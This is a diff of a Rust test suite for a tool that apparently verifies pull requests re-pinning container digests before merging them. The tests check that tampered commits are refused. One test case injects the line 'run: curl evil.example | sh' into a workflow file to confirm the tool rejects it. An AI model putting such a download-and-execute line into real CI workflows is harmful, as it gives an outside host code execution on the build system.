@@ -14,6 +14,8 @@ use crate::support::{
     world::{self, REV_A, REV_B, Ran, World},
 };
 
+/// The first request of git for a fetch.
+const FETCH: &str = "/info/refs?service=git-upload-pack";
 const MERGING: &str = "auto_merge: true, gates: [ci]";
 const B: &str = ".github/workflows/b.yml";
 const ROLLBACK: [&str; 5] = ["rollback", "--to", REV_A, "--pr", "ready"];
@@ -68,7 +70,8 @@ fn promoted_before(world: &World, fake: &Fake) {
     git(&["push", "-q", "origin", "main"]);
     git(&["remote", "set-head", "origin", "main"]);
     publish(world, fake, "as it is");
-    fake.store().name_head("main", &git(&["rev-parse", "HEAD"]));
+    let head = git(&["rev-parse", "HEAD"]);
+    fake.store().name_head("main", &head, world.root());
 }
 
 fn branch(fake: &Fake) -> String {
@@ -151,12 +154,7 @@ fn honest_pull_request_is_merged_by_wait() {
     for (kind, how) in all() {
         let (world, fake) = opened(kind, how);
         fake.when(2, |store| store.report("ci", "success"));
-        fake.forget();
         is_merged(&world, &fake, &format!("{kind:?} {how:?}"));
-        // Of the base, of the head and of their merge base, which is the base: it is read again if it moved.
-        let asked = fake.asked();
-        let trees = asked.iter().filter(|line| line.contains("/git/trees/"));
-        assert_eq!(trees.count(), 3, "{kind:?} {how:?} {asked:#?}");
     }
 }
 
@@ -241,25 +239,26 @@ fn honest_pull_request_below_the_top_is_merged() {
 
 #[test]
 fn commit_with_other_digests_is_not_merged() {
-    for (kind, how) in all() {
-        for which in ["every", "one file", "commit of its own"] {
-            let (world, fake) = opened(kind, how);
-            let case = format!("{kind:?} {how:?} {which}");
-            let [a, b] = [A, B].map(|path| with_other_digests(&fake, path));
-            let head = branch(&fake);
-            let files = [(A, &*a), (B, &*b)];
-            let files = if which == "one file" {
-                &files[..1]
-            } else {
-                &files
-            };
-            if which == "commit of its own" {
-                fake.store().refs.remove(&head);
-            }
-            fake.store().push(&head, &trailer(how), files);
-            arm(&fake);
-            is_refused(&world, &fake, "was not approved", &case);
+    let cases = BOTH
+        .into_iter()
+        .flat_map(|how| ["every", "one file", "commit of its own"].map(|which| (how, which)));
+    for (kind, (how, which)) in SERVERS.into_iter().cycle().zip(cases) {
+        let (world, fake) = opened(kind, how);
+        let case = format!("{kind:?} {how:?} {which}");
+        let [a, b] = [A, B].map(|path| with_other_digests(&fake, path));
+        let head = branch(&fake);
+        let files = [(A, &*a), (B, &*b)];
+        let files = if which == "one file" {
+            &files[..1]
+        } else {
+            &files
+        };
+        if which == "commit of its own" {
+            fake.store().refs.remove(&head);
         }
+        fake.store().push(&head, &trailer(how), files);
+        arm(&fake);
+        is_refused(&world, &fake, "was not approved", &case);
     }
 }
 
@@ -303,43 +302,41 @@ fn commit_with_other_changes_is_not_merged() {
         "mode",
         "symlink",
     ];
-    for kind in SERVERS {
-        for (case, replaces) in cases
-            .iter()
-            .flat_map(|case| [(*case, false), (*case, true)])
-        {
-            let (world, fake) = opened(kind, Opened::Promotion);
-            // Promoted, but not counted.
-            let pin =
-                |revision| format!("ghcr.io/acme/review@{}", world.digest("review", revision));
-            fake.store()
-                .push("main", "a pin", &[("deploy.yml", &pin(REV_A))]);
-            merge_base_into(&fake, &[]);
-            let none = ".github/workflows/none.yml";
-            let head = branch(&fake);
-            let planned = fake.store().content(&head, A);
-            let (path, text) = match case {
-                "deletion" | "symlink" => (none, None),
-                "mode" => (A, None),
-                "file" => (none, Some("on: pull_request_target\n".to_owned())),
-                "new file" => ("notes", Some("mine".to_owned())),
-                "configuration" => ("repin.yaml", Some(world.read("repin.yaml") + "# x\n")),
-                "digest outside files" => ("deploy.yml", Some(pin(REV_B))),
-                _ => (A, Some(planned + "run: curl evil.example | sh\n")),
-            };
-            commit(&fake, replaces, |store, files| match (case, text) {
-                (_, Some(text)) => {
-                    let blob = store.put_blob(text.as_bytes());
-                    files.insert(path.to_owned(), ("100644".to_owned(), blob));
-                }
-                ("deletion", _) => drop(files.remove(path)),
-                ("mode", _) => "100755".clone_into(&mut files.get_mut(path).unwrap().0),
-                _ => "120000".clone_into(&mut files.get_mut(path).unwrap().0),
-            });
-            arm(&fake);
-            let case = format!("{kind:?} {case}, replaces: {replaces}");
-            is_refused(&world, &fake, path, &case);
-        }
+    let cases = cases
+        .iter()
+        .flat_map(|case| [(*case, false), (*case, true)]);
+    // The files are compared by git, so each case needs only one server.
+    for (kind, (case, replaces)) in SERVERS.into_iter().cycle().zip(cases) {
+        let (world, fake) = opened(kind, Opened::Promotion);
+        // Promoted, but not counted.
+        let pin = |revision| format!("ghcr.io/acme/review@{}", world.digest("review", revision));
+        fake.store()
+            .push("main", "a pin", &[("deploy.yml", &pin(REV_A))]);
+        merge_base_into(&fake, &[]);
+        let none = ".github/workflows/none.yml";
+        let head = branch(&fake);
+        let planned = fake.store().content(&head, A);
+        let (path, text) = match case {
+            "deletion" | "symlink" => (none, None),
+            "mode" => (A, None),
+            "file" => (none, Some("on: pull_request_target\n".to_owned())),
+            "new file" => ("notes", Some("mine".to_owned())),
+            "configuration" => ("repin.yaml", Some(world.read("repin.yaml") + "# x\n")),
+            "digest outside files" => ("deploy.yml", Some(pin(REV_B))),
+            _ => (A, Some(planned + "run: curl evil.example | sh\n")),
+        };
+        commit(&fake, replaces, |store, files| match (case, text) {
+            (_, Some(text)) => {
+                let blob = store.put_blob(text.as_bytes());
+                files.insert(path.to_owned(), ("100644".to_owned(), blob));
+            }
+            ("deletion", _) => drop(files.remove(path)),
+            ("mode", _) => "100755".clone_into(&mut files.get_mut(path).unwrap().0),
+            _ => "120000".clone_into(&mut files.get_mut(path).unwrap().0),
+        });
+        arm(&fake);
+        let case = format!("{kind:?} {case}, replaces: {replaces}");
+        is_refused(&world, &fake, path, &case);
     }
 }
 
@@ -630,7 +627,7 @@ fn configuration_that_changes_during_the_run_is_not_verified() {
         let changed = world.read("repin.yaml") + "# changed\n";
         fake.store().report("ci", "success");
         // After the set was approved, before the branch is compared with its base.
-        fake.at(When::Before, "GET", "/branches/main", 2, move |store| {
+        fake.at(When::Before, "GET", FETCH, 3, move |store| {
             store.push("main", "configuration", &[("repin.yaml", &changed)]);
         });
         let args = ["wait", "--pr", "1", "--timeout", "0s", "--format", "json"];
